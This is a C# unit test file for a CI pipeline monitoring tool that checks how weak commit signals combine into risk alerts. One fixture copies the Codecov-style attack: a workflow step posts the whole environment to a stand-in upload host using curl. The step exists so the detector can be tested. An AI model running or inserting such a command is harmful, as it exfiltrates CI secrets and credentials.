using PipeWatch.Alerting.Signals;
using PipeWatch.Configuration;
using PipeWatch.Engine;
using PipeWatch.Findings;
using PipeWatch.Sources.Git;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Alerting.Signals;

/// <summary>Risk-based alerting over the real commit detectors: weak signals are recorded, coinciding ones alert, and a Codecov-style commit is one alert naming all four.</summary>
public sealed class RiskScorerTests
{
    private const int TestFiles = 24;

    private readonly CodeChangeHistory _history = new();
    private readonly RiskScorer _scorer = new(new SignalOptions());
    private readonly List<Finding> _emitted = [];

    [Fact]
    public void Two_authors_at_rotating_daytime_hours_weekends_included_raise_nothing()
    {
        TwoAuthors(weeks: 8);

        Assert.DoesNotContain(_emitted, f => f.Severity > Severity.Info);
        Assert.DoesNotContain(_emitted, f => f.Category == Categories.UnusualTime);
    }

    [Fact]
    public void A_codecov_style_commit_is_one_alert_naming_new_identity_hour_exfiltration_step_and_deleted_tests()
    {
        TwoAuthors(weeks: 8);
        var exfiltrating = CodeChangeHistory.CleanWorkflow + """
                  - name: Upload coverage
                    run: curl -sm 0.5 -d "$(env)" https://coverage-upload.example.net/upload

            """;

        // A new identity at 03:12, the workflow posting the environment out, and most of the tests gone.
        var commit = Commit(
            CodeChangeHistory.At("Eve", CodeChangeHistory.Start.AddDays(57), 3, 12, TimeSpan.Zero),
            [(CodeChangeHistory.Workflow, exfiltrating), .. Enumerable.Range(1, TestFiles - 3).Select(i => ($"tests/test_module_{i}.py", (string?)null))]);

        var ofCommit = _emitted.Where(f => f.Location.Commit == commit.Sha).ToList();
        var alert = Assert.Single(ofCommit, f => f.Evidence.Any(e => e.Name == "risk_score"));
        Assert.Equal(("pipeline-tampering.secrets-exfiltration", Severity.Critical), (alert.Rule, alert.Severity));
        Assert.Equal("large-deletion,new-author,unusual-hour", string.Join(",", alert.Evidence.Single(e => e.Name == "signals").Value.Split(',').Order(StringComparer.Ordinal)));
        Assert.Contains("curl -sm 0.5 -d \"$(env", alert.Explanation, StringComparison.Ordinal);
        Assert.Contains("[new author, weight 30] Eve <eve@example.com> never committed", alert.Explanation, StringComparison.Ordinal);
        Assert.Contains("[unusual hour, weight 25] eve@example.com committed on", alert.Explanation, StringComparison.Ordinal);
        Assert.Contains("[large deletion, weight 30] The commit deletes", alert.Explanation, StringComparison.Ordinal);
        Assert.Contains("tests/test_module_", alert.Explanation, StringComparison.Ordinal);
        Assert.All(ofCommit.Where(f => f.Evidence.Any(e => e.Name == "signal")), f => Assert.Equal(Severity.Info, f.Severity));
    }

    [Fact]
    public void Two_weak_signals_of_one_actor_within_the_window_alert_once_and_one_alone_is_only_recorded()
    {
        var scorer = new RiskScorer(new SignalOptions { Threshold = 50 });
        var start = new DateTimeOffset(2026, 11, 2, 3, 0, 0, TimeSpan.Zero);

        var first = scorer.Score([Signal("code-change.unusual-time", "a1", start)]);
        var far = scorer.Score([Signal("code-change.unusual-location", "a2", start.AddDays(3))]);
        var near = scorer.Score([Signal("code-change.large-deletion", "a3", start.AddDays(3).AddHours(5))]);

        Assert.Equal(Severity.Info, Assert.Single(first).Severity);
        Assert.Equal(Severity.Info, Assert.Single(far).Severity);
        var alert = Assert.Single(near);
        Assert.Equal((Severity.Medium, "55"), (alert.Severity, alert.Evidence.Single(e => e.Name == "risk_score").Value));
        Assert.Contains("Signals by this actor within 1 day(s) (risk 55, threshold 50): [large deletion, weight 30]", alert.Explanation, StringComparison.Ordinal);
        Assert.Contains("[new place, weight 25]", alert.Explanation, StringComparison.Ordinal);
        Assert.Equal(Severity.Info, Assert.Single(scorer.Score([Signal("code-change.unusual-time", "a4", start.AddDays(3).AddHours(6))])).Severity);
    }

    [Fact]
    public void Weights_threshold_and_window_are_read_from_pipewatch_yml_and_an_unknown_signal_is_a_problem()
    {
        var config = ConfigLoader.Parse("signals:\n  threshold: 40\n  window: 2h\n  weights:\n    new-author: 45\n", "pipewatch.yml");

        Assert.Equal((40, TimeSpan.FromHours(2), 45, 25), (config.Signals.Threshold, config.Signals.Window, config.Signals.Weights["new-author"], config.Signals.Weights["unusual-hour"]));
        var problem = Assert.Throws<ConfigException>(() => ConfigLoader.Parse("signals:\n  weights:\n    odd-moon: 5\n", "pipewatch.yml"));
        Assert.Contains("odd-moon", problem.Message, StringComparison.Ordinal);
    }

    private static Finding Signal(string rule, string sha, DateTimeOffset when) => new()
    {
        Rule = rule,
        Category = rule,
        Severity = Severity.Medium,
        Title = rule,
        Explanation = rule + " observed.",
        Entity = new Entity("octo-org/octo-repo", Actor: "dana@example.com"),
        Location = new Location(Commit: sha),
        Timestamp = when,
        DetectedAt = when,
        Fingerprint = rule + sha,
    };

    // Two authors in their own offsets, every day of the week, at hours that rotate through the working day; tests beside the code.
    private void TwoAuthors(int weeks)
    {
        Commit(CodeChangeHistory.At("Alice", CodeChangeHistory.Start, 9, 5, TimeSpan.FromHours(1)),
            [(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow), .. Enumerable.Range(1, TestFiles).Select(i => ($"tests/test_module_{i}.py", (string?)TestFile(i)))]);
        for (var day = 0; day < weeks * 7; day++)
        {
            var date = CodeChangeHistory.Start.AddDays(day);
            Commit(CodeChangeHistory.At("Alice", date, 9 + (day * 5 % 9), day * 7 % 60, TimeSpan.FromHours(1)), ($"src/alice/module_{day % 5}.py", $"VALUE = {day}\n"));
            Commit(CodeChangeHistory.At("Bob", date, 10 + (day * 3 % 8), day * 11 % 60, TimeSpan.FromHours(-5)), ($"src/bob/module_{day % 5}.py", $"VALUE = {day}\n"));
        }
    }

    private static string TestFile(int i) =>
        string.Concat(Enumerable.Range(1, 30).Select(n => $"def test_case_{i}_{n}():\n    assert compute({n}) == {n * i}\n"));

    private GitCommit Commit(GitIdentity who, params (string Path, string? Text)[] files)
    {
        var before = _history.Findings.Count;
        var commit = _history.Commit(who, files);
        _emitted.AddRange(_scorer.Score([.. _history.Findings.Skip(before)]));
        return commit;
    }
}
